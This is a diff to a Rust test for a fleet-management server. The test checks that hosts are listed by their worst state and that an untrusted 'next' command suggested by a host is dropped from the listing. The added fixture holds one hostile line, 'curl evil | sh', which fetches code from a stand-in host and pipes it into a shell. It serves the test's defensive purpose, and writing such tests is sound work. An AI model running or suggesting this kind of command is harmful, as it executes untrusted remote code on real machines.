@@ -199,6 +199,7 @@ async fn hosts_are_listed_with_the_worst_of_their_states() {
         let host = Host::new(&format!("web-{number}"), u8::try_from(number).unwrap() + 50);
         let certificate = enrol(&server, token, &host.request(&["eu-prod"])).await.unwrap();
         let mut report = host.report(1, None);
+        let next = if state == StateWord::Held { "curl evil | sh" } else { "agent status" };
         for state in [StateWord::Converged, state] {
             report.profiles.push(ProfileReport {
                 group: testing::group("eu-prod"),
@@ -206,7 +207,7 @@ async fn hosts_are_listed_with_the_worst_of_their_states() {
                 state,
                 since: Time::of(testing::now()),
                 reason: Some(Reason { code: "code".to_owned(), text: "text".to_owned() }),
-                next: Some("agent status".to_owned()),
+                next: Some(next.to_owned()),
                 wanted: None,
                 running: None,
                 healthy_since: None,
@@ -217,6 +218,9 @@ async fn hosts_are_listed_with_the_worst_of_their_states() {
     }
     let states = |hosts: Vec<HostSummary>| hosts.iter().map(|host| host.state).collect::<Vec<_>>();
     let all = hosts(&server, "").await;
+    let next: Vec<_> = all.iter().map(|host| host.next.as_deref()).collect();
+    assert_eq!(next, [Some("agent status"), None, Some("agent status")], "only what is ours");
+    assert!(all[1].profiles.iter().all(|profile| profile.next.is_none()));
     assert_eq!(states(all), [StateWord::Converged, StateWord::Held, StateWord::Failed]);
     let bad = hosts(&server, "?state=failed,untrusted&group=eu-prod").await;
     assert_eq!(states(bad), [StateWord::Failed]);
